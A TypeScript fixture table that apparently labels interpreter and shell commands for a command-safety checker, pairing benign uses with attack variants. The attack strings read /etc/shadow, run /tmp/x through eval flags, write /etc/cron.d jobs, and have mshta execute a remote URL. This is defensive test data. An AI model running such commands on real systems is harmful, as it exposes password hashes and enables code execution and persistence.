import type { ExampleTable } from './example.ts'

export const interpreters3: ExampleTable = {
  groovy: {
    use: 'groovy app.groovy → read app.groovy',
    attack: [
      `groovy -e '"/tmp/x".execute()' → run /tmp/x`,
      'groovy /etc/shadow app.groovy → read /etc/shadow',
    ],
  },
  groovyConsole: {
    use: 'groovyConsole app.groovy → read app.groovy',
    attack: 'groovyConsole /etc/shadow → read /etc/shadow',
  },
  groovysh: { attack: `groovysh -e '"/tmp/x".execute()' → run /tmp/x` },
  java: {
    use: 'java -jar app.jar → read app.jar',
    attack: [
      'java -agentpath:/tmp/x.so -jar app.jar → load /tmp/x.so; read app.jar',
      'java -jar /etc/shadow → read /etc/shadow',
    ],
  },
  'jbang run': {
    use: 'jbang run app.java → read app.java',
    attack: 'jbang run /etc/shadow app.java → read /etc/shadow',
  },
  jshell: {
    use: 'jshell app.jsh → read app.jsh',
    attack: [
      'jshell /etc/shadow → read /etc/shadow',
      'jshell --startup /etc/shadow app.jsh → read /etc/shadow',
    ],
  },
  kotlin: {
    use: 'kotlin app.kts → read app.kts',
    attack: [
      `kotlin -e 'Runtime.getRuntime().exec("/tmp/x")' → run /tmp/x`,
      'kotlin /etc/shadow app.kts → read /etc/shadow',
    ],
  },
  kscript: {
    use: 'kscript app.kts → read app.kts',
    attack: [
      'kscript /etc/shadow app.kts → read /etc/shadow',
      `kscript -t 'Runtime.getRuntime().exec("/tmp/x")' → run /tmp/x`,
    ],
  },
  mono: {
    use: 'mono --config app.conf src → read app.conf',
    attack: 'mono --config /etc/shadow src → read /etc/shadow',
  },
  runghc: { use: 'runghc app.hs → read app.hs', attack: 'runghc /etc/shadow → read /etc/shadow' },
  'rust-script': {
    use: 'rust-script app.rs → read app.rs',
    attack: [
      `rust-script -e 'std::process::Command::new("/tmp/x").status()' → run /tmp/x`,
      'rust-script /etc/shadow app.rs → read /etc/shadow',
    ],
  },
  scala: {
    use: 'scala app.scala → read app.scala',
    attack: [
      `scala -e 'import sys.process._; "/tmp/x".!' → run /tmp/x`,
      'scala /etc/shadow app.scala → read /etc/shadow',
    ],
  },
  agda: {
    use: 'agda app.agda → read app.agda',
    attack: [
      'agda /etc/shadow → read /etc/shadow',
      'agda --with-compiler /tmp/x app.agda → run /tmp/x; read app.agda',
    ],
  },
  clips: {
    use: 'clips -f app.clp → read app.clp',
    attack: [
      'clips -f /etc/shadow → read /etc/shadow',
      'clips --f2 /etc/shadow → read /etc/shadow',
    ],
  },
  elixir: {
    use: 'elixir app.exs → read app.exs',
    attack: [
      `elixir -e 'System.cmd("/tmp/x", [])' → run /tmp/x`,
      'elixir /etc/shadow app.exs → read /etc/shadow',
    ],
  },
  erl: { attack: `erl -eval 'os:cmd("/tmp/x").' → run /tmp/x` },
  escript: {
    use: 'escript app.erl → read app.erl',
    attack: 'escript /etc/shadow app.erl → read /etc/shadow',
  },
  gprolog: {
    use: 'gprolog --consult-file app.pl → read app.pl',
    attack: `gprolog --query-goal 'shell("/tmp/x")' → run /tmp/x`,
  },
  idris: {
    use: 'idris app.hs → read app.hs',
    attack: [
      'idris /etc/shadow → read /etc/shadow',
      `idris -x 'System.Process.system "/tmp/x"' → run /tmp/x`,
    ],
  },
  iex: { attack: `iex -e 'System.cmd("/tmp/x", [])' → run /tmp/x` },
  mmc: {
    use: 'mmc app.m → read app.m',
    attack: [
      'mmc /etc/shadow → read /etc/shadow',
      'mmc -o /etc/cron.d/job app.m → read app.m; write /etc/cron.d/job',
    ],
  },
  mosml: {
    use: 'mosml app.sml → read app.sml',
    attack: [
      'mosml /etc/shadow → read /etc/shadow',
      'mosml --stdlib /tmp/lib app.sml → load /tmp/lib; read app.sml',
    ],
  },
  ocaml: {
    use: 'ocaml app.ml → read app.ml',
    attack: [
      'ocaml /etc/shadow app.ml → read /etc/shadow',
      `ocaml -e 'system("/tmp/x")' → run /tmp/x`,
    ],
  },
  poly: {
    use: 'poly --use app.sml → read app.sml',
    attack: [
      `echo 'system("/tmp/x")' | poly → run /tmp/x`,
      `poly --eval 'system("/tmp/x")' → run /tmp/x`,
    ],
  },
  sicstus: {
    use: 'sicstus -l app.pl → read app.pl',
    attack: `sicstus --goal 'shell("/tmp/x").' → run /tmp/x`,
  },
  sml: {
    use: 'sml app.sml → read app.sml',
    attack: [
      'sml /etc/shadow → read /etc/shadow',
      'sml -m /etc/shadow app.sml → read /etc/shadow; read app.sml',
    ],
  },
  swipl: {
    use: 'swipl -f app.pl → read app.pl',
    attack: `swipl -g 'shell("/tmp/x")' → run /tmp/x`,
  },
  yap: {
    use: 'yap app.pl → read app.pl',
    attack: [`yap -g 'shell("/tmp/x")' → run /tmp/x`, 'yap /etc/shadow → read /etc/shadow'],
  },
  a68g: {
    use: 'a68g app.a68 → read app.a68',
    attack: ['a68g /etc/shadow → read /etc/shadow', `a68g -e 'system("/tmp/x")' → run /tmp/x`],
  },
  apl: {
    use: 'apl -f app.apl → read app.apl',
    attack: [`apl --eval '!/tmp/x' → run /tmp/x`, 'apl -f /etc/shadow → read /etc/shadow'],
  },
  basic: { use: 'basic app.bas → read app.bas', attack: 'basic /etc/shadow → read /etc/shadow' },
  bqn: {
    use: 'bqn app.bqn → read app.bqn',
    attack: ['bqn /etc/shadow → read /etc/shadow', `bqn -e '!/tmp/x' → run /tmp/x`],
  },
  bwbasic: {
    use: 'bwbasic app.bas → read app.bas',
    attack: 'bwbasic /etc/shadow → read /etc/shadow',
  },
  forth: {
    use: 'forth app.fs → read app.fs',
    attack: [`forth -e 's" /tmp/x" system' → run /tmp/x`, 'forth /etc/shadow → read /etc/shadow'],
  },
  gst: {
    use: 'gst -f app.st → read app.st',
    attack: [
      `echo 'system("/tmp/x")' | gst → run /tmp/x`,
      'gst -f /etc/shadow app.st → read /etc/shadow',
    ],
  },
  icon: { use: 'icon app.icn → read app.icn', attack: 'icon /etc/shadow → read /etc/shadow' },
  icont: {
    use: 'icont app.icn → read app.icn',
    attack: [
      'icont /etc/shadow → read /etc/shadow',
      'icont -o /etc/cron.d/job app.icn → read app.icn; write /etc/cron.d/job',
    ],
  },
  ijconsole: {
    use: 'ijconsole app.ijs → read app.ijs',
    attack: ['ijconsole /etc/shadow → read /etc/shadow', `ijconsole --js '!/tmp/x' → run /tmp/x`],
  },
  m4: {
    use: 'm4 app.m4 → read app.m4',
    attack: [
      'm4 /etc/shadow → read /etc/shadow',
      'm4 -F /etc/cron.d/job app.m4 → read app.m4; write /etc/cron.d/job',
    ],
  },
  nasl: { use: 'nasl app.nasl → read app.nasl', attack: 'nasl /etc/shadow → read /etc/shadow' },
  pike: {
    use: 'pike app.pike → read app.pike',
    attack: [
      `pike -e 'Process.system("/tmp/x");' → run /tmp/x`,
      'pike /etc/shadow → read /etc/shadow',
    ],
  },
  rebol: {
    use: 'rebol app.r → read app.r',
    attack: ['rebol /etc/shadow → read /etc/shadow', `rebol --do '!/tmp/x' → run /tmp/x`],
  },
  rexx: {
    use: 'rexx app.rexx → read app.rexx',
    attack: ['rexx /etc/shadow → read /etc/shadow', `rexx -e 'system("/tmp/x")' → run /tmp/x`],
  },
  snobol4: {
    use: 'snobol4 app.sno → read app.sno',
    attack: 'snobol4 /etc/shadow → read /etc/shadow',
  },
  spitbol: {
    use: 'spitbol app.spt → read app.spt',
    attack: 'spitbol /etc/shadow → read /etc/shadow',
  },
  unicon: {
    use: 'unicon app.icn → read app.icn',
    attack: [
      'unicon /etc/shadow → read /etc/shadow',
      'unicon -o /etc/cron.d/job app.icn → read app.icn; write /etc/cron.d/job',
    ],
  },
  yabasic: {
    use: 'yabasic app.yab → read app.yab',
    attack: [
      'yabasic /etc/shadow → read /etc/shadow',
      `yabasic -e 'system("/tmp/x")' → run /tmp/x`,
    ],
  },
  automator: {
    use: 'automator app.workflow → read app.workflow',
    attack: 'automator /etc/shadow → read /etc/shadow',
  },
  closh: {
    use: 'closh app.cljc → read app.cljc',
    attack: [
      `closh -e '(clojure.java.shell/sh "/tmp/x")' → run /tmp/x`,
      'closh /etc/shadow app.cljc → read /etc/shadow',
    ],
  },
  eshell: { attack: 'eshell → shell eshell' },
  ion: {
    use: 'ion app.ion → read app.ion',
    attack: [
      'ion /etc/shadow app.ion → read /etc/shadow',
      `ion -c 'cat /etc/shadow' app.ion → read /etc/shadow`,
    ],
  },
  lshell: {
    use: `lshell -c 'cat notes.txt' → read notes.txt`,
    attack: ['lshell → shell lshell', `lshell -c 'cat /etc/shadow' → read /etc/shadow`],
  },
  minishell: { attack: 'minishell → shell minishell' },
  mrsh: {
    use: 'mrsh app.sh → read app.sh',
    attack: [
      'mrsh /etc/shadow → read /etc/shadow',
      `mrsh -c 'cat /etc/shadow' app.sh → read /etc/shadow`,
    ],
  },
  mshta: { attack: 'mshta https://203.0.113.7/x → execute ‹https://203.0.113.7/x›' },
  murex: {
    use: 'murex app.mx → read app.mx',
    attack: [
      'murex /etc/shadow app.mx → read /etc/shadow',
      `murex -c 'cat /etc/shadow' app.mx → read /etc/shadow`,
    ],
  },
  osascript: {
    use: 'osascript app.scpt → read app.scpt',
    attack: [
      `osascript -e 'do shell script "/tmp/x"' → run /tmp/x`,
      'osascript /etc/shadow → read /etc/shadow',
    ],
  },
  pwsh: {
    use: 'pwsh app.ps1 → read app.ps1',
    attack: [
      `pwsh -c 'Start-Process /tmp/x' → run /tmp/x`,
      'pwsh /etc/shadow app.ps1 → read /etc/shadow',
    ],
  },
  rssh: {
    use: `rssh -c 'cat notes.txt' → read notes.txt`,
    attack: ['rssh → shell rssh', `rssh -c 'cat /etc/shadow' → read /etc/shadow`],
  },
  sash: {
    use: `sash -c 'cat notes.txt' → read notes.txt`,
    attack: ['sash → shell sash', `sash -c 'cat /etc/shadow' → read /etc/shadow`],
  },
  ysh: {
    use: 'ysh app.ysh → read app.ysh',
    attack: [
      'ysh /etc/shadow app.ysh → read /etc/shadow',
      `ysh -c 'cat /etc/shadow' app.ysh → read /etc/shadow`,
    ],
  },
}
